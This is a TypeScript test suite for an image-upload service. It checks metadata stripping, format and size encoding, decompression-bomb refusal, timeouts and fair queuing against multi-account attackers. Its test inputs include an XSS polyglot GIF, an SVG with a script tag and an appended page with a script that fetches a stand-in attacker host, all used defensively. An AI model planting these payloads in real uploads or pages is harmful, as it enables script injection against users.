import { coverFiles } from "@fairclick/core/campaigns/cover-files";
import { drawCover } from "@fairclick/core/campaigns/drawn-covers";
import sharp from "sharp";
import { expect, it } from "vitest";
import { inLanguage } from "../language/in-language";
import { describeUnreadable, isKnownImage, openImageTasks } from "./cover-images";
import { makeAnimation, makeBomb, makePhoto, makePng, pixelAt } from "./testing/images";

const somebody = { userId: "somebody", network: "192.0.2.1" };
const tasks = (task: "cover" | "drawing", bytes: Uint8Array) =>
  openImageTasks()(task, bytes, somebody);

async function encode(bytes: Uint8Array): Promise<Map<string, Uint8Array>> {
  const result = await tasks("cover", bytes);
  if ("problem" in result) throw new Error(result.problem);
  return result.files;
}

async function findProblem(bytes: Uint8Array): Promise<string> {
  const result = await tasks("cover", bytes);
  return "problem" in result ? result.problem : "none";
}

function getFile(files: Map<string, Uint8Array>, name: string): Uint8Array {
  return files.get(name) ?? new Uint8Array();
}

const text = (bytes: Uint8Array) => Buffer.from(bytes).toString("latin1");

it("encodes every file in its format and size", async () => {
  const files = await encode(await makePng());
  expect([...files.keys()]).toEqual(coverFiles);
  for (const [name, bytes] of files) {
    const { width, height, format } = await sharp(bytes).metadata();
    const [expected = "", ending = ""] = name.split(".");
    expect([name, width]).toEqual([name, Number(expected)]);
    expect(height).toBe(ending === "jpg" ? 630 : (width * 9) / 16);
    expect(format).toBe({ avif: "heif", webp: "webp", jpg: "jpeg" }[ending]);
    expect(isKnownImage(bytes)).toBe(true);
  }
});

it("removes the place, the camera and all other metadata, and turns the image upright", async () => {
  const photo = await makePhoto(3);
  expect(text(photo)).toContain("SpyCam");
  expect(await sharp(photo).metadata()).toMatchObject({ orientation: 3, exif: expect.anything() });
  const files = await encode(photo);
  for (const [name, bytes] of files) {
    const { exif, icc, xmp, iptc, orientation } = await sharp(bytes).metadata();
    expect([name, exif, icc, xmp, iptc, orientation]).toEqual([name, ...Array(5).fill(undefined)]);
    expect(text(bytes)).not.toMatch(/SpyCam|Dana Doe|Exif/);
  }
  const [, , blueLeft = 0] = await pixelAt(getFile(files, "640.webp"), 0.1, 0.5);
  expect(blueLeft).toBeGreaterThan(200);
});

it("takes the first frame of an animation", async () => {
  const files = await encode(await makeAnimation());
  const cover = getFile(files, "1280.webp");
  expect((await sharp(cover).metadata()).pages ?? 1).toBe(1);
  const [red = 0, green = 0, blue = 0] = await pixelAt(cover, 0.5, 0.5);
  expect([red > 200, green < 60, blue < 60]).toEqual([true, true, true]);
});

it("refuses an image of a few bytes that would need gigabytes, by its head alone", async () => {
  const bomb = await makeBomb(30_000, 30_000);
  expect(bomb.length).toBeLessThan(10_000);
  expect(await findProblem(bomb)).toContain("30000 × 30000 pixels");
  expect(await findProblem(await makePng({ width: 200, height: 100 }))).toContain(
    "at least 320 × 180",
  );
});

it.each([
  ["a truncated photo", async () => (await makePhoto()).subarray(0, 2_000)],
  ["nothing", async () => new Uint8Array()],
  [
    "a drawing with a script",
    async () =>
      Buffer.from(
        `<svg xmlns="http://www.w3.org/2000/svg" width="640" height="360"><script/></svg>`,
      ),
  ],
  ["a page that begins as an image", async () => Buffer.from("GIF89a<script>alert(1)</script>")],
  [
    "a PDF that begins as an image",
    async () => Buffer.concat([Buffer.from("\xff\xd8\xff", "latin1"), Buffer.from("%PDF-1.7\n")]),
  ],
])("refuses %s", async (_, make) => {
  expect(await findProblem(await make())).toBe(describeUnreadable());
});

it("keeps nothing of a page that is appended to an image", async () => {
  const page = "<script>fetch('//evil.example')</script>";
  const files = await encode(Buffer.concat([await makePng(), Buffer.from(page)]));
  for (const bytes of files.values()) expect(text(bytes)).not.toContain("script");
});

it("draws our own drawings as PNG", async () => {
  const svg = drawCover({ initials: "tf", genre: "Obby", variant: 3 });
  const result = await tasks("drawing", Buffer.from(svg));
  const [png = new Uint8Array()] = "files" in result ? result.files.values() : [];
  expect(await sharp(png).metadata()).toMatchObject({ format: "png", width: 1_200, height: 630 });
  const stemOfT = await pixelAt(png, 0.397, 0.451);
  expect(Math.min(...stemOfT)).toBeGreaterThan(240);
});

it("ends a process that takes too long, and goes on with the next image", async () => {
  const hasty = openImageTasks({ timeoutMs: 1 });
  const photo = await makePhoto();
  expect(await hasty("cover", photo, somebody)).toEqual({ problem: describeUnreadable() });
  expect(await hasty("cover", photo, somebody)).toEqual({ problem: describeUnreadable() });
});

it("lets at most two images of a person wait", async () => {
  const busy = openImageTasks({ timeoutMs: 1 });
  const all = Array.from({ length: 4 }, () => busy("cover", new Uint8Array(8), somebody));
  const outcomes = await Promise.allSettled(all);
  expect(outcomes.map(({ status }) => status)).toEqual([...Array(3).fill("fulfilled"), "rejected"]);
  expect(outcomes.at(-1)).toMatchObject({ reason: { code: "unavailable" } });
});

it("reads the images of others between those of an attacker with many accounts", async () => {
  const busy = openImageTasks({ timeoutMs: 1 });
  const read: string[] = [];
  const send = (userId: string, network: string) =>
    busy("cover", new Uint8Array(8), { userId, network }).then(
      () => read.push(userId),
      () => {},
    );
  const attack = Array.from({ length: 60 }, (_, n) => send(`attacker ${n % 30}`, `net ${n % 3}`));
  await Promise.all([...attack, send("honest", "home")]);
  expect(read.indexOf("honest")).toBeGreaterThanOrEqual(0);
  expect(read.indexOf("honest")).toBeLessThanOrEqual(4);
});

it("refuses in the language of the request", async () => {
  const bytes = new TextEncoder().encode("no image");
  expect(await inLanguage("es", () => openImageTasks()("cover", bytes, somebody))).toEqual({
    problem: "No se puede leer esta imagen. Guárdala como PNG o JPEG e inténtalo de nuevo.",
  });
});
